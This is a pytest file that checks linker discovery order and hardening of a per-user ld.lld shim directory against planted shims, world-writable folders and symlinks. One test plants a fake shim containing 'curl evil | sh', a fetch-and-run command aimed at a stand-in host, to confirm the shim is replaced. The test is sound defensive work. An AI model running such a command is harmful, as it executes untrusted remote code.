"""ld.lld discovery order: $ROCM_PATH (or /opt/rocm), then ld.lld on PATH, then ziglang."""
import os
import stat
from pathlib import Path

from wmma_gen.compiler import toolchain


def _fake_lld(path, version):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\necho '{version}'\n")
    path.chmod(path.stat().st_mode | stat.S_IEXEC)


def _find(monkeypatch, rocm=None, path=None):
    monkeypatch.setenv("ROCM_PATH", str(rocm) if rocm else "/nonexistent-rocm")
    monkeypatch.setenv("PATH", str(path) if path else "/nonexistent-bin")
    return toolchain.find_linker.__wrapped__()


def test_rocm_wins(tmp_path, monkeypatch):
    _fake_lld(tmp_path / "rocm/llvm/bin/ld.lld", "LLD 19.0.0 (rocm)")
    _fake_lld(tmp_path / "bin/ld.lld", "LLD 14.0.6")
    ln = _find(monkeypatch, tmp_path / "rocm", tmp_path / "bin")
    assert ln.provider == "rocm" and ln.version == "LLD 19.0.0 (rocm)"
    assert ln.toolkit == str(tmp_path / "rocm")


def test_path_before_ziglang(tmp_path, monkeypatch):
    _fake_lld(tmp_path / "bin/ld.lld", "LLD 14.0.6")
    ln = _find(monkeypatch, None, tmp_path / "bin")
    assert ln.provider == "path" and ln.version == "LLD 14.0.6"
    assert os.path.exists(os.path.join(ln.toolkit, "llvm", "bin", "ld.lld"))


def test_ziglang_last(monkeypatch):
    ln = _find(monkeypatch)
    assert ln.provider == "ziglang" and ln.version.startswith("LLD")


# ---- the ld.lld shim lives in a per-user private dir and is verified before use (issue 37) ----
def test_shim_dir_is_private_and_owned(tmp_path, monkeypatch):
    import os
    import stat
    import tempfile
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    root = Path(toolchain._toolkit_for(("/bin/true", "ld.lld")))
    base = tmp_path / f"wmma_gen_toolkit-{os.getuid()}"
    assert root.parent == base
    st = os.lstat(base)
    assert stat.S_IMODE(st.st_mode) == 0o700 and st.st_uid == os.getuid()
    assert (root / "llvm" / "bin" / "ld.lld").read_text() == "#!/bin/sh\nexec '/bin/true' 'ld.lld' \"$@\"\n"


def test_a_planted_shim_is_replaced_not_run(tmp_path, monkeypatch):
    import tempfile
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    cmd = ("/bin/true", "ld.lld")
    exe = Path(toolchain._toolkit_for(cmd)) / "llvm" / "bin" / "ld.lld"
    exe.write_text("#!/bin/sh\ncurl evil | sh\n")
    assert Path(toolchain._toolkit_for(cmd)) / "llvm" / "bin" / "ld.lld" == exe
    assert exe.read_text() == toolchain._shim_text(cmd)


def test_a_dir_open_to_others_is_not_used(tmp_path, monkeypatch):
    """Another user's (or a world-writable) folder at the predictable name: a fresh mkdtemp dir."""
    import os
    import tempfile
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    toolchain._fresh_dir.cache_clear()
    planted = tmp_path / f"wmma_gen_toolkit-{os.getuid()}"
    planted.mkdir(mode=0o777)
    planted.chmod(0o777)
    try:
        got = toolchain.private_dir()
        assert got != planted and got.parent == tmp_path and not got.stat().st_mode & 0o077
        link = tmp_path / "elsewhere"
        link.mkdir(mode=0o700)
        planted.rmdir()
        planted.symlink_to(link)                   # a symlink at the name is refused too
        assert toolchain.private_dir() != planted
    finally:
        toolchain._fresh_dir.cache_clear()
